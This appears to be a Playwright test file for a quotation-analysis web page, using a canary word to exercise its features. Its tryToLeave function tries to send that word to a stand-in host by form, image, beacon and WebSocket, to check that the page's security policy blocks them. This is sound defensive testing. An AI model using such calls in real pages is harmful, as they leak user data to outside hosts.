// Uses every feature of the page, with a text that would be known again anywhere.
import assert from "node:assert/strict";
import { paste, settled } from "./served.mjs";

export const CANARY = "zanzibarian";
const TEXT = `Canary found in the ${CANARY} mine\n\n“The ${CANARY} canary sings,” said Quillon Xanthe, the mayor.\n\nOfficials said the ${CANARY} mine had been closed. “It is a scandal,” claimed Ann Hale. She denied having said that the ${CANARY} mine was “a death trap”.\n`;
const PAGE = `<!doctype html><title>x</title><article><h1>The ${CANARY} mine</h1>${`<p>“We are closing the ${CANARY} mine,” said Ann Hale, who has run it for ten years and does not want to stop.</p>`.repeat(12)}</article>`;

/** @param {import("playwright-core").Page} page */
export async function useEverything(page) {
  await paste(page, TEXT);
  const first = page.locator("#article .seg[data-quote]", { hasText: `The ${CANARY} canary` });
  await first.waitFor();

  // Looking, correcting, undoing.
  await first.click();
  await page.locator("#card .correct summary").click();
  await page.locator("#card [data-correct]").first().waitFor();
  await page.keyboard.press("Escape");
  for (const tab of ["quotations", "checks", "words", "voices"]) await page.locator(`#tab-${tab}`).click();
  await page.locator("#arc summary").click();

  // Saving in every form, and copying.
  for (const button of await page.locator("#save-menu [data-save]").evaluateAll((all) => all.map(({ dataset }) => dataset.save))) {
    if (button === "print") continue;
    await page.locator("#save").click();
    const copies = button.startsWith("copy");
    const saved = copies ? null : page.waitForEvent("download");
    await page.locator(`[data-save=${button}]`).click();
    await saved;
    if (button !== "copyLink") continue;
    // Where the page may not copy, the link is shown.
    await page.locator("#copy-by-hand[open], #notice:has-text('Link copied')").first().waitFor();
    if (await page.locator("#copy-by-hand").count()) await page.locator("#copy-close").click();
  }

  // Finding, quoting, marking what was missed, opening a link.
  await page.locator("#to-find").click();
  await page.locator("#find-words").fill(CANARY);
  await page.locator("#find-list button").first().click();
  await page.locator("#find-close").click();
  await first.click();
  await page.locator("#card [data-copy]").click();
  await page.locator("#card [data-copy-as=jsonld]").waitFor();
  await page.keyboard.press("Escape");
  await page.evaluate(() => getSelection().selectAllChildren([...document.querySelectorAll("#article .seg")].find(({ className, textContent }) => className === "seg" && textContent.includes("Canary"))));
  await page.locator("#mark-bar [data-mark=open]").click();
  await page.locator("#mark-bar [data-mark=apply]").click();
  await page.locator("#corrections").waitFor();
  await page.evaluate(() => (location.hash = "#result=1,1.0.0,x"));
  await page.locator("#notice", { hasText: "This link is broken" }).waitFor();

  // Own words.
  await page.locator("#tab-words").click();
  await page.locator("#own-words summary").click();
  await page.locator("#own-text").fill(`${CANARY}; -3`);
  await page.locator("#own-use").click();
  await page.locator("#panel-words", { hasText: CANARY }).waitFor();

  // A file that needs a library.
  await page.locator("#file").setInputFiles({ name: "saved.html", mimeType: "text/html", buffer: Buffer.from(PAGE) });
  await page.locator("#article .seg[data-quote]", { hasText: "We are closing" }).first().waitFor();

  // A long text, in the worker.
  await paste(page, `${TEXT}\n\n`.repeat(200));
  await page.waitForSelector("#working:not([hidden])");
  await page.waitForFunction(() => document.querySelector("#working").hidden && document.querySelectorAll("#article .block").length > 500);
  await settled(page);
  assert.equal(page.workers().length, 2, "one worker read the file, another the text");
}

/** Lays several articles side by side, with what is loaded for that. @param {import("playwright-core").Page} page */
export async function useSeveral(page) {
  await page.locator("#to-several").click();
  await page.locator("#several-found").waitFor();
  const texts = [["one.txt", TEXT], ["two.txt", TEXT.replace("sings", "sang")]];
  await page.locator("#several-file").setInputFiles(texts.map(([name, text]) => ({ name, mimeType: "text/plain", buffer: Buffer.from(text) })));
  await page.locator("#several-found", { hasText: CANARY }).waitFor();
  await page.locator("#to-several").click();
}

/** Tries what a script in the page might: the policy refuses every way out. @param {import("playwright-core").Page} page */
export async function tryToLeave(page) {
  const before = page.url();
  const refused = await page.evaluate(async (word) => {
    const refusals = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refusals.push(effectiveDirective));
    const form = document.createElement("form");
    form.action = `https://example.invalid/${word}`;
    document.body.append(form);
    new Image().src = `https://example.invalid/${word}.png`;
    navigator.sendBeacon(`https://example.invalid/${word}`);
    try {
      new WebSocket(`wss://example.invalid/${word}`);
    } catch {
      // Refused at once.
    }
    form.submit();
    await fetch(`./?${word}`).catch(() => {});
    await new Promise((go) => setTimeout(go, 200));
    return [...new Set(refusals)].sort();
  }, CANARY);
  for (const directive of ["connect-src", "img-src"]) assert.ok(refused.includes(directive), `${directive}: ${refused}`);
  assert.equal(page.url(), before, "no form was sent");
}
